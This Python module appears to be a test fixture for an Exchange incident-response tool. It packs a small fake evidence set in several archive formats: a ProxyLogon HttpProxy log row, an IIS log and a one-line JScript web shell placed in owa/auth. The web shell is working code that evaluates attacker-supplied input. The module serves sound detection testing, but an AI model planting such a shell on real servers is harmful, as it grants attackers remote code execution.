"""A tiny Exchange server collection and the shapes responders receive it in (zip, 7z, KAPE...).

Until ``exhunt.demo`` exists this is the demo evidence of the evidence tests: one ProxyLogon
HttpProxy row, one web shell in owa/auth and one IIS log, packed by the functions below.
"""

from __future__ import annotations

import os
import tarfile
import zipfile
from pathlib import Path

import py7zr

EXCHANGE = "Program Files/Microsoft/Exchange Server/V15"
HTTPPROXY = (
    "#Software: Microsoft Exchange Server\r\n#Version: 15.01.2176.002\r\n#Log-type: HttpProxy Logs\r\n"
    "#Date: 2021-03-03T00:00:00.000Z\r\n"
    "#Fields: DateTime,RequestId,Protocol,UrlStem,AnchorMailbox,UserAgent,ClientIpAddress,HttpStatus,"
    "Method,UrlQuery\r\n"
    "2021-03-03T02:01:02.000Z,r1,Ecp,/ecp/y.js,ServerInfo~a]@exch01.corp.local:444/ecp/proxyLogon.ecp?#,"
    "ExchangeServicesClient/0.0.0.0,203.0.113.9,241,POST,\r\n"
    "2021-03-03T02:02:02.000Z,r2,Owa,/owa/,,Mozilla/5.0,198.51.100.7,200,GET,\r\n"
)
IIS = (
    "#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n"
    "#Date: 2021-03-03 02:00:00\r\n"
    "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) "
    "cs(Referer) sc-status sc-substatus sc-win32-status time-taken\r\n"
    "2021-03-03 02:05:00 10.0.0.5 POST /owa/auth/x.aspx - 443 - 203.0.113.9 curl/7.1 - 200 0 0 15\r\n"
)
SHELL = b'<%@ Page Language="Jscript"%><%eval(Request.Item["p"],"unsafe");%>\r\n'
FILES: dict[str, bytes] = {
    f"C/{EXCHANGE}/Logging/HttpProxy/Ecp/HttpProxy_2021030302-1.LOG": HTTPPROXY.encode(),
    f"C/{EXCHANGE}/FrontEnd/HttpProxy/owa/auth/x.aspx": SHELL,
    "C/inetpub/logs/LogFiles/W3SVC1/u_ex210303.log": IIS.encode(),
}
MTIME = 1614736800  # 2021-03-03T02:00:00Z, even so zip's 2-second times keep it


def write_folder(root: Path, drive: str = "C") -> Path:
    for rel, data in FILES.items():
        path = root / (drive + rel[1:])
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        os.utime(path, (MTIME, MTIME))
    return root


def write_zip(path: Path, prefix: str = "", drive: str = "C") -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for rel, data in FILES.items():
            info = zipfile.ZipInfo(prefix + drive + rel[1:], date_time=(2021, 3, 3, 2, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            zf.writestr(info, data)
    return path


def write_velociraptor(path: Path) -> Path:
    write_zip(path, prefix="uploads/auto/", drive="C%3A")
    with zipfile.ZipFile(path, "a") as zf:
        zf.writestr("collection_context.json", '{"session_id": "F.1"}')
        zf.writestr("log.json", "")
        # the same file through the raw NTFS accessor: must be read once
        rel = next(iter(FILES))
        zf.writestr("uploads/ntfs/%5C%5C.%5CC%3A" + rel[1:], FILES[rel])
    return path


def write_7z(path: Path, folder: Path) -> Path:
    with py7zr.SevenZipFile(path, "w") as sz:
        sz.writeall(folder / "C", "C")
    return path


def write_tar(path: Path, folder: Path, mode: str = "w:gz") -> Path:
    with tarfile.open(path, mode) as tf:
        tf.add(folder / "C", "C")
    return path
